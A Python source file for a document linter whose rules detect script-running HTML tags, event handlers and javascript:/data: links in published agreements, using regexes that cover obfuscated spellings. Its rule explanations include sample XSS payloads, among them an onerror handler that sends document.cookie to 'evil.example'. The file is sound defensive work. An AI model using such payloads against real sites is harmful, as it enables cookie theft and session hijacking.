"""5xx unsafe content: HTML that runs script on the published site, and script links (AK503 secrets are in secrets.py)."""

from __future__ import annotations

import re
from collections.abc import Iterator

from agreekit.checks.context import CheckContext
from agreekit.checks.family import Family
from agreekit.checks.paths import walk_strings
from agreekit.finding import ERROR, Explanation, Finding, Rule
from agreekit.model.agreement import Agreement
from agreekit.model.source import SourceMap

_SCRIPT_TAG = re.compile(
    r"<\s*(?P<tag>script|iframe|object|embed|frame|frameset|applet|base|meta)\b", re.IGNORECASE
)
# `[^<>]`, not `[^>]`: a tag ends before the next `<`, and each `<` of a long run of unclosed
# tags then scans only to the next one, not to the end of the text (which took minutes).
_EVENT_ATTRIBUTE = re.compile(r"<[A-Za-z][^<>]*?\s(?P<attr>on[a-z]+)\s*=", re.IGNORECASE)
# A scheme may be split by whitespace or entities to slip past filters; browsers ignore both.
_SCRIPT_SCHEME = r"(?P<scheme>j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|v\s*b\s*s\s*c\s*r\s*i\s*p\s*t|data)\s*(?::|&#0*58;|&colon;)"
# Matched against lower-cased text: literal starts let the regex engine skip to candidates.
_UNSAFE_LINKS = (
    re.compile(rf"\]\(\s*<?\s*{_SCRIPT_SCHEME}"),  # [text](javascript:...)
    # A label holds no unescaped brackets and at most 999 characters (CommonMark); saying so keeps
    # a line of many `[` linear instead of quadratic.
    re.compile(rf"\[[^\[\]\n]{{1,999}}\]:\s*<?\s*{_SCRIPT_SCHEME}"),  # [id]: data:...
    re.compile(rf"<\s*{_SCRIPT_SCHEME}"),  # <javascript:...> autolink
    re.compile(rf"""(?:href|src|action|formaction|xlink:href)\s*=\s*["']?\s*{_SCRIPT_SCHEME}"""),
)


# Every unsafe link pattern needs one of these: a link, a link definition, a tag or an attribute.
_LINK_MARKS = ("](", "]:", "<", "=")


def _html_problems(text: str) -> Iterator[tuple[int, str]]:
    for match in _SCRIPT_TAG.finditer(text):
        yield (
            match.start(),
            f"raw <{match.group('tag').lower()}> can run code on the published site; remove it",
        )
    for match in _EVENT_ATTRIBUTE.finditer(text):
        yield (
            match.start("attr"),
            f"HTML event handler '{match.group('attr')}=' runs script; remove it",
        )


def _data_strings(agreement: Agreement) -> Iterator[tuple[SourceMap, tuple[str | int, ...], str]]:
    """String values of front matter and agreement.yml: they are rendered into the site too."""
    for path, text in walk_strings(agreement.data):
        yield agreement.source, path, text
    for section in agreement.sections:
        for path, text in walk_strings(section.data):
            yield section.source, path, text


FAMILY = Family()


AK501 = Rule(
    "AK501",
    "script-html",
    ERROR,
    summary="Raw HTML that can run script on the published site.",
    hint="Remove the HTML; write Markdown.",
    explanation=Explanation(
        what=(
            "Raw HTML in a section or data value that can run script on the published "
            "site: `<script>`, `<iframe>`, `<object>`, `<embed>`, `<base>`, `<meta>` and "
            "frames, and event-handler attributes such as `onclick=` or `onerror=`."
        ),
        why=(
            "The site is published from contributors' text; script in it runs in every "
            "reader's browser with the site's origin."
        ),
        example=(
            '<img src="logo.png" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">'
        ),
        fix="Remove the HTML and write Markdown.",
        fixed="![Logo](logo.png)",
    ),
)


@FAMILY.check(AK501)
def no_script_html(agreement: Agreement, context: CheckContext) -> Iterator[Finding]:
    """AK501"""
    for prose in context.prose:
        if "<" not in prose.raw:
            continue
        for offset, message in _html_problems(prose.raw):
            yield AK501.at(prose.location(offset), message)
    for source, path, text in _data_strings(agreement):
        for _, message in _html_problems(text):
            yield AK501.at(source.locate(*path), message)


def _link_problems(text: str) -> Iterator[tuple[int, str]]:
    if not any(mark in text for mark in _LINK_MARKS):
        return
    lower = text.lower()
    for pattern in _UNSAFE_LINKS:
        for match in pattern.finditer(lower):
            scheme = re.sub(r"\s", "", match.group("scheme")).lower()
            yield (
                match.start("scheme"),
                (
                    f"'{scheme}:' link can run script or hide content in the published site; "
                    "link to an https: address or a file in the repository"
                ),
            )


AK502 = Rule(
    "AK502",
    "script-link",
    ERROR,
    summary="A javascript:, vbscript: or data: link.",
    hint="Link to an https: address or a file in the repository.",
    explanation=Explanation(
        what=(
            "A link with a `javascript:`, `vbscript:` or `data:` address, as a Markdown "
            "link, a reference definition, an autolink or an HTML attribute, including "
            "spellings split by spaces or entities."
        ),
        why=(
            "Such a link runs script or shows content disguised as part of the agreement "
            "when a reader clicks it."
        ),
        example="[Service portal](javascript:alert(document.cookie))",
        fix="Link to an https address or a file in the repository.",
        fixed="[Service portal](https://support.brightwater-it.example)",
    ),
)


@FAMILY.check(AK502)
def no_script_links(agreement: Agreement, context: CheckContext) -> Iterator[Finding]:
    """AK502"""
    for prose in context.prose:
        for offset, message in _link_problems(prose.raw):
            yield AK502.at(prose.location(offset), message)
    for source, path, text in _data_strings(agreement):
        for _, message in _link_problems(text):
            yield AK502.at(source.locate(*path), message)
